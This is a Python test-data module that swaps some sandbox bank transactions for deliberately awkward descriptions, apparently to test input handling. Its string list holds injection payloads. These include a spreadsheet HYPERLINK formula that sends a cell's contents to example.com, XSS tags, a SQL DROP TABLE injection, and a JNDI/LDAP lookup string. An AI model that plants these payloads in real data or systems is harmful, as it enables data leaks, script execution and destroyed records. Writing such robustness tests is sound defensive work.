"""What real data do to programs: the descriptions, names and gaps of the user `messy`."""

from belvo_sandbox.digests import number
from belvo_sandbox.people.books import Line, Movement

_EVERY = 3  # one movement in so many is awkward

_TEXTS = (
    '=HYPERLINK("https://example.com/?leak="&A1,"Click")',
    "=1+1",
    "+52 55 9000 0000 TRASPASO",
    "-1000 AJUSTE",
    "@SUM(A1:A9)",
    "\t=CMD CON TABULADOR",
    "<script>alert('1')</script>",
    '<img src=x onerror="alert(1)"> & <b>negrita</b>',
    "**negrita** _cursiva_ [enlace](https://example.com) `código` $x^2$ :material/warning: # título",
    "| una | tabla |\n|---|---|\n| en | dos líneas |",
    "🌮🎉 Taquería 👩🏽‍🍳 La Niña 🇲🇽 ñandú",
    "مرحبا PAGO שלום",
    "Z̷a̷l̷g̷o̷ pago",
    "COMPRA 'entre comillas'; DROP TABLE transactions; --",
    "PAGO; con, separadores\t\"y\" 'comillas'",
    "{{ 7 * 7 }} ${jndi:ldap://example.com} %s %d {0}",
    "SINESPACIOS" * 40,
    "Descripción larguísima que no termina nunca. " * 40,
    " ",
    "",
    "null",
    "NaN",
    "0",
    "PAGO\u00a0DURO\u200bINVISIBLE",
)


def awkward(key: str, movement: Movement) -> Movement:
    """The movement, or the same one as a careless bank would send it."""
    draw = number("awkward", key, movement.account, movement.day, movement.number)
    if draw % _EVERY:
        return movement
    return movement._replace(line=_spoiled(movement.line, draw // _EVERY))


def _spoiled(line: Line, draw: int) -> Line:
    text = _TEXTS[draw % len(_TEXTS)]
    draw //= len(_TEXTS)
    keeps_category, keeps_merchant = draw % 2, draw // 2 % 3
    return line._replace(
        text=text,
        category=line.category if keeps_category else None,
        subcategory=line.subcategory if keeps_category else None,
        merchant=(None, line.merchant, line.merchant and f"{text[:60]}")[keeps_merchant],
        reference=line.reference if draw // 6 % 2 else None,
    )
